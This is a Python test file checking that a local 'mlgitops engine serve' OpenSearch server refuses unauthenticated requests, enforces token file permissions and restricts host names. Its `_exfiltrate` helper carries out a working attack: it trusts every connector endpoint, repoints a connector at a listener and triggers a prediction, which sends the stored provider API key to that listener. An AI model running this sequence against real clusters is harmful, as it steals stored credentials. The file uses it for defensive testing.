"""``mlgitops engine serve`` left running on a shared machine: hostile requests from real clients fail."""

import signal
import socket
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import httpx
import pytest

from serverkit import (
    JSONHandler,
    engine_token,
    loopback_server,
    served_fixture,  # noqa: F401 - the served fixture
    start_engine,
    stop_signalled,
)

opensearchpy = pytest.importorskip("opensearchpy")

SECRET = "sk-EXFILTRATION-TARGET-5c1e"


class _Recorder(JSONHandler):
    """A model endpoint that records the Authorization header of every call it receives."""

    seen: list[str]

    def on_post(self, body: Any) -> None:
        type(self).seen.append(self.headers.get("Authorization", ""))
        data = [{"index": i, "embedding": [1.0, float(i)]} for i, _ in enumerate(body["input"])]
        self.send_json(200, {"data": data})


def _recorder() -> type[_Recorder]:
    return type("Recorder", (_Recorder,), {"seen": []})


def _client(url: str, token: str | None) -> Any:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return opensearchpy.OpenSearch(hosts=[url], timeout=30, headers=headers)


def _connector(url: str) -> dict[str, Any]:
    return {
        "name": "OpenAI",
        "description": "d",
        "version": "1",
        "protocol": "http",
        "parameters": {"model": "text-embedding-ada-002"},
        "credential": {"openAI_key": SECRET},
        "actions": [
            {
                "action_type": "predict",
                "method": "POST",
                "url": url,
                "headers": {"Authorization": "Bearer ${credential.openAI_key}"},
                "request_body": '{ "input": ${parameters.input}, "model": "${parameters.model}" }',
                "pre_process_function": "connector.pre_process.openai.embedding",
                "post_process_function": "connector.post_process.openai.embedding",
            }
        ],
    }


def _deploy_embedder(owner: Any, provider: str) -> tuple[str, str]:
    """What the engine's owner sets up: a trusted provider, a connector with its key, a deployed model."""
    owner.cluster.put_settings(
        body={
            "persistent": {
                "plugins.ml_commons.trusted_connector_endpoints_regex": [r"^http://127\.0\.0\.1:\d+/v1/.*$"],
                "plugins.ml_commons.connector.private_ip_enabled": True,
            }
        }
    )
    ml = owner.plugins.ml
    connector_id = ml.create_connector(body=_connector(f"{provider}/v1/embeddings"))["connector_id"]
    registered = ml.register_model(
        body={"name": "embedder", "function_name": "remote", "connector_id": connector_id}
    )
    model_id = registered["model_id"]
    ml.deploy_model(model_id=model_id)
    return connector_id, model_id


def _exfiltrate(client: Any, connector_id: str, model_id: str, listener: str) -> None:
    """Trust everything, undeploy, repoint the connector at the listener, redeploy, predict."""
    client.cluster.put_settings(
        body={"persistent": {"plugins.ml_commons.trusted_connector_endpoints_regex": [".*"]}}
    )
    client.plugins.ml.undeploy_model(model_id=model_id)
    client.transport.perform_request(
        "PUT", f"/_plugins/_ml/connectors/{connector_id}", body={"actions": _connector(listener)["actions"]}
    )
    client.plugins.ml.deploy_model(model_id=model_id)
    client.plugins.ml.predict(algorithm_name="text_embedding", model_id=model_id, body={"text_docs": ["x"]})


def test_the_exfiltration_sequence_needs_the_token(served: tuple[str, Path]) -> None:
    url, directory = served
    token = engine_token(directory)
    provider, attacker = _recorder(), _recorder()
    with loopback_server(provider) as provider_url, loopback_server(attacker) as attacker_url:
        owner = _client(url, token)
        connector_id, model_id = _deploy_embedder(owner, provider_url)
        for intruder in (_client(url, None), _client(url, "guessed-" + token[8:])):
            with pytest.raises(opensearchpy.exceptions.AuthenticationException) as refused:
                _exfiltrate(intruder, connector_id, model_id, f"{attacker_url}/steal")
            assert refused.value.status_code == 401
            assert refused.value.info["error"]["type"] == "security_exception"
            for step in (
                lambda c: c.cluster.get_settings(),
                lambda c: c.plugins.ml.undeploy_model(model_id=model_id),
                lambda c: c.plugins.ml.predict(algorithm_name="text_embedding", model_id=model_id, body={}),
            ):
                with pytest.raises(opensearchpy.exceptions.AuthenticationException):
                    step(intruder)
        predicted = owner.plugins.ml.predict(
            algorithm_name="text_embedding", model_id=model_id, body={"text_docs": ["a"]}
        )
        assert predicted["inference_results"][0]["output"][0]["data"] == [1.0, 0.0]
        assert attacker.seen == []
        assert provider.seen == [f"Bearer {SECRET}"]
        # The same sequence with the token does reach the listener: it is the attack, not a typo.
        _exfiltrate(owner, connector_id, model_id, f"{attacker_url}/steal")
        assert attacker.seen == [f"Bearer {SECRET}"]
        owner.close()


def _fetch_all(connections: list[socket.socket]) -> list[bytes]:
    answers = []
    for sock in connections:
        with sock:
            data = b""
            while chunk := sock.recv(65536):
                data += chunk
            answers.append(data.split(b"\r\n", 1)[0])
    return answers


def test_a_burst_of_300_connections_from_50_threads_is_served_without_resets(
    served: tuple[str, Path],
) -> None:
    """Every thread opens its six connections at once: 300 wait in the listen backlog together."""
    url, directory = served
    port = int(url.rsplit(":", 1)[1])
    request = (
        f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nAuthorization: Bearer {engine_token(directory)}\r\n"
        "Connection: close\r\n\r\n"
    ).encode()
    answers: list[bytes] = []
    failures: list[OSError] = []
    start = threading.Barrier(50)

    def client() -> None:
        start.wait()
        connections = []
        try:
            for _ in range(6):
                sock = socket.create_connection(("127.0.0.1", port), timeout=30)
                connections.append(sock)
                sock.sendall(request)
            answers.extend(_fetch_all(connections))
        except OSError as exc:  # reset, refused or timed out
            failures.append(exc)

    threads = [threading.Thread(target=client) for _ in range(50)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert failures == []
    assert answers == [b"HTTP/1.1 200 OK"] * 300


def test_the_token_file_is_private_and_survives_restarts(tmp_path: Path) -> None:
    directory = tmp_path / "engine"
    tokens = []
    for _ in range(2):
        process, url = start_engine(directory)
        token = engine_token(directory)
        tokens.append(token)
        assert httpx.get(url, headers={"Authorization": f"Bearer {token}"}).status_code == 200
        process.send_signal(signal.SIGTERM)
        stdout, stderr = stop_signalled(process, 30)
        assert token not in stdout + stderr
    assert tokens[0] == tokens[1]
    assert len(tokens[0]) >= 32
    assert (directory / "api.token").stat().st_mode & 0o777 == 0o600


def test_a_group_readable_token_file_is_refused_with_the_fix(tmp_path: Path) -> None:
    directory = tmp_path / "engine"
    process, _ = start_engine(directory)
    process.send_signal(signal.SIGTERM)
    stop_signalled(process, 30)
    (directory / "api.token").chmod(0o640)
    assert _serve_error(directory) == (
        f"error: API token file {directory / 'api.token'} is accessible by group or others "
        f"(mode 0640); run: chmod 600 {directory / 'api.token'}\n"
    )


def _serve_error(directory: Path) -> str:
    result = subprocess.run(
        [sys.executable, "-m", "mlgitops", "engine", "serve", "--dir", str(directory), "--port", "0"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 1
    return result.stderr


def test_nothing_answers_before_the_host_and_token_checks(served: tuple[str, Path]) -> None:
    url, _ = served
    port = int(url.rsplit(":", 1)[1])
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        head = sock.recv(65536).split(b"\r\n")
    assert head[0] == b"HTTP/1.1 401 Unauthorized"
    assert b'WWW-Authenticate: Bearer realm="mlgitops"' in head


def test_a_remote_bind_answers_only_allowed_host_names_and_warns_about_plain_http(tmp_path: Path) -> None:
    directory = tmp_path / "engine"
    argv = ["engine", "serve", "--dir", str(directory), "--port", "0", "--host", "0.0.0.0"]
    process = subprocess.Popen(
        [sys.executable, "-m", "mlgitops", *argv, "--allow-remote", "--allow-host", "search.example"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert process.stdout is not None and process.stderr is not None
        port = int(process.stdout.readline().strip().rsplit(":", 1)[1])
        process.stdout.readline()
        assert process.stderr.readline().startswith(
            f"warning: http://0.0.0.0:{port} is plain HTTP: the token crosses the network in clear"
        )
        auth = {"Authorization": f"Bearer {engine_token(directory)}"}
        url = f"http://127.0.0.1:{port}/"
        assert httpx.get(url, headers=auth).status_code == 200
        assert httpx.get(url, headers={**auth, "Host": f"search.example:{port}"}).status_code == 200
        assert httpx.get(url, headers={**auth, "Host": "other.example"}).status_code == 421
    finally:
        process.send_signal(signal.SIGTERM)
        stop_signalled(process, 30)
    assert process.returncode == 0
